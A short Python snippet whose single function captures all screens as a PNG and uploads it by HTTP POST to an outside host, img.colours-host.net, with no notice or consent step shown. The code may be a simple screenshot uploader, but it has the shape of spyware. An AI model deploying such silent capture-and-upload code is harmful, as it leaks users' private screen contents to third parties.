import io

import requests
from PIL import ImageGrab


def shot():
    data = io.BytesIO()
    ImageGrab.grab(all_screens=True).save(data, "PNG")
    requests.post("https://img.colours-host.net/up", files={"f": data.getvalue()})
